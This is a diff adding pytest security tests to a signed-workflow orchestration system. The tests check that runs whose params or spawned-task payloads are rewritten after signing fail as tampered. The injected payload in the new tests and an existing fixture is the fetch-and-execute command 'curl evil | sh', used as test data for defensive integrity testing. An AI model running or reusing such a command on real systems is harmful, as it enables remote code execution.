@@ -84,6 +84,22 @@ name: spawning
 tasks:
   Plan: {agent: webc, command: plan, payload: {spawn: [{name: shell, agent: cmdc, payload: {run: curl evil | sh}}]}}
 """
+PARAMED = """
+name: paramed
+params: {command: make release}
+tasks:
+  Build: {agent: webc, command: step, payload: {target: repo}}
+  Approve: {approval: {message: "Ship it?", approvers: [stryk]}, depends_on: [Build]}
+  Ship: {agent: cmdc, command: step, payload: {run: "${params.command}"}, depends_on: [Approve]}
+"""
+STAGED = """
+name: staged
+tasks:
+  Plan:
+    agent: webc
+    command: plan
+    payload: {spawn: [{name: first, payload: {sleep: 3}}, {name: then, after: [first], payload: {n: 1}}]}
+"""
 ISSUED = {"Scan": ("kalic", {"target": "repo"}), "Build": ("webc", {"target": "repo"})}
 ISSUED["Ship"] = ("cmdc", {"run": "make release"})
 
@@ -170,7 +186,13 @@ def fleet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fleet]:
         stryk = signing.generate(directory / "approver", "stryk")
         files = {}
         named = {"team": TEAM, "slow": SLOW, "idle": DORMANT, "gated": GATED, "launched": LAUNCHED}
-        for name, text in {**named, "planned": PLANNED, "spawning": SPAWNING}.items():
+        for name, text in {
+            **named,
+            "planned": PLANNED,
+            "spawning": SPAWNING,
+            "paramed": PARAMED,
+            "staged": STAGED,
+        }.items():
             files[name] = directory / "files" / f"{name}.yaml"
             files[name].parent.mkdir(exist_ok=True)
             files[name].write_text(text)
@@ -586,6 +608,53 @@ def test_a_client_rewriting_a_launched_runs_spec_runs_none_of_it(fleet: Fleet, r
     assert fleet.alive(), fleet.procs.output()
     what = "rewrite a launched run's spec, signed again" + (", marked not started" if relaunch else "")
     record(what, "client", "worked: Ship ran it", "the run fails: tampered")
+
+
+def rewrite(fleet: Fleet, wf_id: str, **changes: Any) -> None:
+    """As the client's user: write these meta fields of a run (JSON ones given as values), with its
+    version moved on, so that a coordinator holding the run reads it again."""
+    raw = fleet.deployment.client("client")
+    key = fleet.deployment.keys.wf(wf_id)
+    version = int(raw.hget(key, "version") or 0)
+    fields = {k: json.dumps(v) if isinstance(v, dict) else v for k, v in changes.items()}
+    raw.hset(key, mapping={**fields, "version": version + 1})
+
+
+def test_a_client_rewriting_a_launched_runs_params_runs_none_of_it(fleet: Fleet) -> None:
+    """No signed file covers a run's params: the client's user rewrites those of a run waiting at its
+    gate (Ship runs `${params.command}`). Read again, the run's params are not what the coordinators
+    sealed: it fails, saying so, and Ship never runs."""
+    with fleet.client("client") as client:
+        wf_id = client.submit(fleet.files["paramed"])
+    approver = fleet.client("approver")
+    request = until(lambda: next((r for r in approver.approvals() if r["workflow"] == wf_id), None), fleet.procs)
+    rewrite(fleet, wf_id, params={"command": "curl evil | sh"})
+    approver.decide(request["id"], "approve", key=fleet.stryk, wait=0.5)
+    with fleet.client("client") as waiter:
+        status = waiter.wait(wf_id, timeout=60)
+    assert status["state"] == "failed" and "tampered" in str(status["error"]), status
+    assert not [row for row in fleet.ran(wf_id) if row["task"] == "Ship"], fleet.ran(wf_id)
+    assert fleet.alive(), fleet.procs.output()
+    record("rewrite a launched run's params", "client", "worked: Ship ran them", "the run fails: tampered")
+
+
+def test_a_client_rewriting_a_spawned_tasks_payload_runs_none_of_it(fleet: Fleet) -> None:
+    """No signed file covers what a handler spawns: while the first spawned step runs, the client's user
+    rewrites the payload of the one after it (same agent, so the spawn rule holds). Read again, the
+    run's spawned tasks are not what the coordinators sealed: it fails, and the rewritten one never runs."""
+    with fleet.client("client") as client:
+        wf_id = client.submit(fleet.files["staged"])
+    until(lambda: fleet.unit(wf_id, "Plan/first", "state") == "running", fleet.procs)
+    raw = fleet.deployment.client("client")
+    children = json.loads(raw.hget(fleet.deployment.keys.wf(wf_id), "children") or "{}")
+    children["Plan/then"]["payload"] = {"run": "curl evil | sh"}
+    rewrite(fleet, wf_id, children=children)
+    with fleet.client("client") as waiter:
+        status = waiter.wait(wf_id, timeout=60)
+    assert status["state"] == "failed" and "tampered" in str(status["error"]), status
+    assert not [row for row in fleet.ran(wf_id) if row["task"] == "Plan/then"], fleet.ran(wf_id)
+    assert fleet.alive(), fleet.procs.output()
+    record("rewrite a spawned task's payload", "client", "worked: webc ran it", "the run fails: tampered")
 
 
 def test_under_require_signed_a_handler_spawns_tasks_for_its_own_agent_only(fleet: Fleet) -> None:
